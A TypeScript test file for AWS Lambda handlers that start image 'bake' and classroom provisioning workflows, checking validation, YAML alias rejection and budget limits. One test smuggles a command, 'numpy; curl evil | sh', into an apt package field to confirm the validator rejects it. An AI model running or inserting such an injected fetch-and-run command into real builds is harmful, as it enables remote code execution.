import { SFNClient, StartExecutionCommand } from '@aws-sdk/client-sfn';
import type { APIGatewayProxyEventV2, Context } from 'aws-lambda';
import { mockClient } from 'aws-sdk-client-mock';
import { beforeEach, describe, expect, it } from 'vitest';
import { handler as startBake } from '../../functions/api/start-bake';
import { handler as startClassroom } from '../../functions/api/start-classroom';
import { resetConfig } from '../../layers/runtime/config';

const sfn = mockClient(SFNClient);
const BAKE_ARN = 'arn:aws:states:us-east-1:123456789012:stateMachine:bakehouse-dev-bake';
const CLASS_ARN = 'arn:aws:states:us-east-1:123456789012:stateMachine:bakehouse-dev-classroom';

beforeEach(() => {
  sfn.reset();
  sfn.on(StartExecutionCommand).resolves({ executionArn: `${BAKE_ARN}:x` });
  process.env.BAKE_STATE_MACHINE_ARN = BAKE_ARN;
  process.env.CLASSROOM_STATE_MACHINE_ARN = CLASS_ARN;
  resetConfig();
});

const post = (body: string, contentType = 'application/json') =>
  ({
    body,
    headers: { 'content-type': contentType },
    isBase64Encoded: false,
  }) as unknown as APIGatewayProxyEventV2;

async function call(fn: typeof startBake, event: APIGatewayProxyEventV2) {
  const response = (await fn(event, {} as Context)) as { statusCode: number; body: string };
  return { status: response.statusCode, body: JSON.parse(response.body) };
}

const recipeYaml = `
name: stats-101
baseImage: /aws/service/debian/release/12/latest/amd64
environment:
  apt: [r-base]
`;

describe('POST /bakes', () => {
  it('starts a bake with the recipe as sent (YAML) and answers 202', async () => {
    const { status, body } = await call(startBake, post(recipeYaml, 'application/yaml'));

    expect(status).toBe(202);
    expect(body).toEqual({ id: expect.stringMatching(/^bake-/) });
    const input = JSON.parse(
      sfn.commandCalls(StartExecutionCommand)[0]?.args[0].input.input ?? '{}',
    );
    expect(input.recipe.name).toBe('stats-101');
  });

  it('answers 400 naming every bad field, and starts nothing', async () => {
    const bad = recipeYaml
      .replace('[r-base]', '["numpy; curl evil | sh"]')
      .replace('stats-101', 'X');

    const { status, body } = await call(startBake, post(bad, 'application/yaml'));

    expect(status).toBe(400);
    expect(body.issues.map((i: { path: string }) => i.path)).toEqual(
      expect.arrayContaining(['name', 'environment.apt[0]']),
    );
    expect(sfn).not.toHaveReceivedCommand(StartExecutionCommand);
  });

  it('passes force: true to the bake for ?force=true, and nothing otherwise', async () => {
    const forced = {
      ...post(recipeYaml, 'application/yaml'),
      queryStringParameters: { force: 'true' },
    };

    await call(startBake, forced as APIGatewayProxyEventV2);
    await call(startBake, post(recipeYaml, 'application/yaml'));

    const inputs = sfn
      .commandCalls(StartExecutionCommand)
      .map((c) => JSON.parse(c.args[0].input.input ?? '{}'));
    expect(inputs.map((i) => i.force)).toEqual([true, undefined]);
  });

  it('answers 400 for a YAML body with aliases, and starts nothing', async () => {
    const aliased = `${recipeYaml}tags: &t { a: b }\nextra: *t\n`;

    const { status, body } = await call(startBake, post(aliased, 'application/yaml'));

    expect(status).toBe(400);
    expect(JSON.stringify(body.issues)).toContain('alias');
    expect(sfn).not.toHaveReceivedCommand(StartExecutionCommand);
  });

  it('answers 400 for a body that is not JSON', async () => {
    const { status, body } = await call(startBake, post('{"name": '));

    expect(status).toBe(400);
    expect(body.issues[0].path).toBe('body');
  });
});

describe('POST /classrooms', () => {
  const request = {
    name: 'intro',
    image: 'ami-0123456789abcdef0',
    seats: 0,
    schedule: { start: '2099-01-01T09:00', end: '2099-01-01T08:00', timezone: 'Europe/Berlin' },
    instructor: { email: 'i@example.edu' },
    sender: 'c@example.edu',
  };

  it('answers 400 for a class that cannot work, naming each field', async () => {
    const { status, body } = await call(startClassroom, post(JSON.stringify(request)));

    expect(status).toBe(400);
    expect(body.issues.map((i: { path: string }) => i.path)).toEqual(
      expect.arrayContaining(['seats', 'schedule.end']),
    );
    expect(sfn).not.toHaveReceivedCommand(StartExecutionCommand);
  });

  it('answers 400 for a class estimated above its budget, with both figures, and starts nothing', async () => {
    const expensive = {
      ...request,
      seats: 30,
      schedule: { ...request.schedule, end: '2099-01-01T12:00' },
      budgetUSD: 5,
    };

    const { status, body } = await call(startClassroom, post(JSON.stringify(expensive)));

    expect(status).toBe(400);
    expect(body.error).toBe('BudgetError');
    expect(body.message).toMatch(/^estimate \$\d+\.\d\d exceeds budgetUSD \$5\.00$/);
    expect(sfn).not.toHaveReceivedCommand(StartExecutionCommand);
  });

  it('starts a class of an instance type the price table lacks', async () => {
    const gpu = {
      ...request,
      seats: 3,
      instanceTypes: ['g6e.xlarge'],
      schedule: { ...request.schedule, end: '2099-01-01T12:00' },
    };

    const { status } = await call(startClassroom, post(JSON.stringify(gpu)));

    expect(status).toBe(202);
  });

  it('starts the classroom machine with the request as sent', async () => {
    const good = {
      ...request,
      seats: 3,
      schedule: { ...request.schedule, end: '2099-01-01T12:00' },
    };

    const { status } = await call(startClassroom, post(JSON.stringify(good)));

    expect(status).toBe(202);
    expect(sfn).toHaveReceivedCommandWith(StartExecutionCommand, {
      stateMachineArn: CLASS_ARN,
      input: JSON.stringify({ request: good }),
    });
  });
});
